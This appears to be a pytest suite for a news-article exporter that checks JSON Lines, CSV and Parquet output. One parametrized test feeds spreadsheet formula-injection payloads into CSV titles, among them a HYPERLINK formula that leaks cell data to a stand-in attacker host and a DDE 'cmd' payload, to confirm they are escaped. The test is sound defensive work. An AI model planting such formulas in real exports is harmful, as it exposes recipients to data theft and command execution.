"""Exporting articles as JSON Lines, CSV and Parquet, on SQLite and Postgres."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from sqlalchemy import update

from newsmill_ingest import export as exporting
from newsmill_ingest.export import ExportError, parse_since
from newsmill_schema import models
from newsmill_schema.db import Database
from tests.support import Process, store_article

COUNT = 23
NEAR_DUPLICATES = {4, 9}


def _add(db: Database, n: int, duplicate_of: int | None = None) -> int:
    return store_article(
        db,
        f"{n}.txt",
        title=f"Title {n}",
        body=f'Body, of "article" {n}.\n\nSecond paragraph.',
        authors=[f"Author {n}", "Desk"],
        credits=[],
        word_count=7,
        content_hash=f"{n:064d}",
        duplicate_of=duplicate_of,
        similarity=0.9 if duplicate_of else None,
        published_at=datetime(2024, 1, 1, 12, tzinfo=UTC) + timedelta(days=n),
    )


@pytest.fixture
def db(database_url: str) -> Iterator[Database]:
    database = Database(database_url)
    database.upgrade()
    first = None
    for n in range(1, COUNT + 1):
        article = _add(database, n, duplicate_of=first if n in NEAR_DUPLICATES else None)
        first = first or article
    yield database
    database.dispose()


def _jsonl(db: Database, **kwargs: object) -> list[dict]:
    out = io.StringIO()
    written = exporting.export(db, "jsonl", None, out, **kwargs)  # type: ignore[arg-type]
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert written == len(lines)
    return lines


def test_jsonl_has_one_line_per_article_in_id_order(db: Database) -> None:
    rows = _jsonl(db)
    assert [r["id"] for r in rows] == list(range(1, COUNT + 1))
    assert rows[0]["authors"] == ["Author 1", "Desk"]
    assert rows[0]["published_at"] == "2024-01-02T12:00:00+00:00"
    assert rows[0]["body"].startswith('Body, of "article" 1.')


def test_canonical_leaves_out_near_duplicates(db: Database) -> None:
    rows = _jsonl(db, canonical=True)
    assert len(rows) == COUNT - len(NEAR_DUPLICATES) == exporting.count(db, canonical=True)
    assert all(r["duplicate_of"] is None for r in rows)


def test_since_filters_on_processing_time(db: Database) -> None:
    cutoff = datetime.now(UTC) + timedelta(hours=1)
    with db.session() as session:
        session.execute(
            update(models.Article).where(models.Article.id > 20).values(processed_at=cutoff)
        )
    rows = _jsonl(db, since=cutoff)
    assert [r["id"] for r in rows] == [21, 22, 23]


def test_batches_are_bounded(db: Database) -> None:
    sizes = [len(batch) for batch in exporting.batches(db, size=5)]
    assert sizes == [5, 5, 5, 5, 3]


def test_progress_is_reported_per_batch(db: Database) -> None:
    seen: list[int] = []
    exporting.export(db, "jsonl", None, io.StringIO(), on_batch=seen.append)
    assert sum(seen) == COUNT


def test_csv_round_trips_bodies_with_newlines_and_quotes(db: Database, tmp_path: Path) -> None:
    target = tmp_path / "articles.csv"
    assert exporting.export(db, "csv", target, io.StringIO()) == COUNT
    with open(target, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == COUNT
    assert rows[2]["body"] == 'Body, of "article" 3.\n\nSecond paragraph.'
    assert json.loads(rows[2]["authors"]) == ["Author 3", "Desk"]


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
     "\t=1", "\r=1"],
)  # fmt: skip
def test_csv_cells_a_spreadsheet_would_run_are_escaped(db: Database, title: str) -> None:
    article_id = store_article(db, "evil.txt", title=title, body="-- a dash\n\nbody", word_count=3)

    out = io.StringIO()
    exporting.export(db, "csv", None, out)
    [row] = [r for r in csv.DictReader(io.StringIO(out.getvalue())) if r["id"] == str(article_id)]

    assert row["title"] == "'" + title
    assert row["body"] == "'-- a dash\n\nbody"
    # JSON Lines keeps the text as it is
    [line] = [r for r in _jsonl(db) if r["id"] == article_id]
    assert line["title"] == title


def test_parquet_is_typed(db: Database, tmp_path: Path) -> None:
    target = tmp_path / "articles.parquet"
    assert exporting.export(db, "parquet", target, io.StringIO(), canonical=True) == 21
    table = pq.read_table(target)
    assert table.num_rows == 21
    assert str(table.schema.field("published_at").type) == "timestamp[us, tz=UTC]"
    assert table.column("authors")[0].as_py() == ["Author 1", "Desk"]
    assert not list(tmp_path.glob(".*partial"))


def test_parquet_needs_a_file(db: Database) -> None:
    with pytest.raises(ExportError, match="--output"):
        exporting.export(db, "parquet", None, io.StringIO())


def test_unknown_format_is_refused(db: Database, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="unknown format"):
        exporting.export(db, "xml", tmp_path / "x", io.StringIO())  # type: ignore[arg-type]
    assert not (tmp_path / "x").exists()


def test_since_accepts_iso_dates_and_refuses_the_rest() -> None:
    assert parse_since("2024-05-01") == datetime(2024, 5, 1, tzinfo=UTC)
    assert parse_since("2024-05-01T12:00:00+02:00").utcoffset() == timedelta(hours=2)
    with pytest.raises(ExportError, match="ISO"):
        parse_since("yesterday")


def test_export_command_writes_the_file(db: Database, tmp_path: Path) -> None:
    # A real `newsmill export`: the file holds one line per canonical article
    target = tmp_path / "out.jsonl"
    env = {"NEWSMILL_DATABASE_URL": db.url, "NEWSMILL_DATA_DIR": str(tmp_path)}
    process = Process(
        ["export", "--format", "jsonl", "--canonical", "--output", str(target)],
        env,
        tmp_path / "export.log",
    )
    assert process.popen.wait(timeout=60) == 0, process.output()
    process.stop()
    assert len(target.read_text(encoding="utf-8").splitlines()) == COUNT - len(NEAR_DUPLICATES)
    assert "exported 21 article(s)" in process.output()
